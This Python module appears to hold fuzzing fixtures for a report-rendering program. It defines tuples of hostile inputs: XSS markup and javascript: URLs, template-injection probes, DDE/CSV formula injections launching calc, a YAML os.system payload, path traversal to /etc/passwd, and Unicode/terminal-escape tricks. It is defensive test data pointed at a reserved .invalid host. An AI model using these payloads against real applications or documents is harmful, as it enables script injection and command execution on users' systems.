"""Texts that some program might run, follow, compute or trip over."""

from typing import Final

ADDRESS: Final = "http://kommune.invalid"
"""Where a text would make a program go; no name under `invalid` exists."""
CALL: Final = "document.title=window.ran=1"

MARKUP: Final = (
    f"<script>{CALL}</script>",
    f"<img src={ADDRESS}/a.png onerror={CALL}>",
    f'" onmouseover="{CALL}" autofocus onfocus=\'{CALL}\'',
    f"</script></style></title></textarea></svg><svg onload={CALL}>",
    f"<iframe src=\"javascript:{CALL}\"></iframe><base href='{ADDRESS}'>",
    f"]]><!-- --!><object data='{ADDRESS}/o'></object><![CDATA[ <?xml?> <!DOCTYPE x [<!ENTITY e 'x'>]> &e; &#60;b&#62;",
    f"</p></td></table><form action={ADDRESS}><meta http-equiv=refresh content='0;url={ADDRESS}'><link rel=stylesheet "
    f"href={ADDRESS}/a.css>",
)
ADDRESSES: Final = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}//",
    f"java\tscript:{CALL}",
    f"\x01\x00javascript:{CALL}",
    f"&#106;avascript&colon;{CALL}",
    f"data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0xPC9zY3JpcHQ+,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    "file:///etc/passwd",
    "\\\\kommune.invalid\\share\\a.docx",
    f"{ADDRESS}/'\"><script>{CALL}</script>",
    f"{ADDRESS}/a) [b](javascript:{CALL}) <javascript:{CALL}>",
    "../../../../tmp/kommunepolitik-ud",
)
TEMPLATES: Final = (
    "{{7*7}}{% for x in ().__class__.__mro__ %}{{x}}{% endfor %}{# #}",
    "{{p 7*7 }}{{r 7*7}}{%p if 1 %}{%tr for x in y %}{{ report.title }} }}",
    "%s %d %(title)s %n {0.__class__} {} {title!r:>9999} {unit.__init__.__globals__} ${HOME} $(id) `id`",
    '{"signal": "1+1"} {"expr": "datum.x"} datum["a"] {"$ref": "#"} \\\\" };alert(1)//',
    "} @import url(http://kommune.invalid/b.css); body{display:none} */ /* \\3c script\\3e content:attr(x) </style>",
)
SHEETS: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://kommune.invalid/?"&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    '{=DDE("cmd";"/C calc";"x")} DDEAUTO c:\\windows\\system32\\cmd.exe',
    'a;b,c\t"d";""e""\r\n=1+1;=2+2',
    "'=1+1",
    "\t=1+1",
    "\r\n=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "HYPERLINK \\l x } { INCLUDETEXT c:\\a.txt } { MERGEFIELD x }",
)
MARKDOWN: Final = (
    f"# overskrift\n## to\n---\n===\n* punkt\n1. en\n> citat\n\n    kode\n```\n[a]: javascript:{CALL}\n",
    f"[klik](javascript:{CALL}) ![billede]({ADDRESS}/a.png) <javascript:{CALL}> [^1]\n\n[^1]: fod",
    "| a | b |\n|---|---|\n| *c* | **d** | ~~e~~ `f` \\| \\\\| __g__ $x$ :smile: @navn #1",
    f"<b>fed</b> <!-- x --> &lt;i&gt; &amp;nbsp; <a href='javascript:{CALL}'>x</a>",
)
SIGNS: Final = (
    "\u202efdp.exe\u202c \u2066skjult\u2069 \u200f\u200e\u061c højre",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u034f\u180e\u2061\ufff9x\ufffa\ufffb",
    "nul\x00klokke\x07slet\x7f\x80\x9b31m\x85ny\x0bside\x0c\x1c\x1d\x1e\x1f\x08\x08",
    "ikke-tegn\ufffe\uffff\ufdd0\U0001fffe\U0010ffff privat\ue000\U000f0000",
    "astral \U0001f600\U00020000\U0001d54f\U000e0041 \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "Zalgo" + "".join(letter + "\u0301" * 25 for letter in "abc"),
    "\x1b[2J\x1b[31mrød\x1b]0;titel\x07\x1b]8;;http://kommune.invalid\x1b\\klik\x1b]8;;\x1b\\\x9b5n\x90q",
    '\r\nATTACH:http://kommune.invalid/a.exe\r\nEND:VEVENT\r\nBEGIN:VALARM\nX;Y="Z":,\\n\\,\u2028ATTACH:x\u2029\x85ATTACH:y',
    "::error file=a,line=1::fejl\n::set-output name=x::y\n##vso[task.setvariable]x",
    "kommunalbestyrelsesmedlemmerne" * 20,
    "x" * 600,
    "/" * 300 + "W" * 300,
    "مرحبا עברית \u0e01\u0e33 \u1100\u1161\u11a8 नमस्ते",
    'CON NUL ../x\\y:*?"<>|~$',
    "null",
    "2024-13-45",
    "- a: [b, {c: d}] &x *x !!python/object/apply:os.system ['id'] # nej",
)
PAYLOADS: Final = (*MARKUP, *ADDRESSES, *TEMPLATES, *SHEETS, *MARKDOWN, *SIGNS)
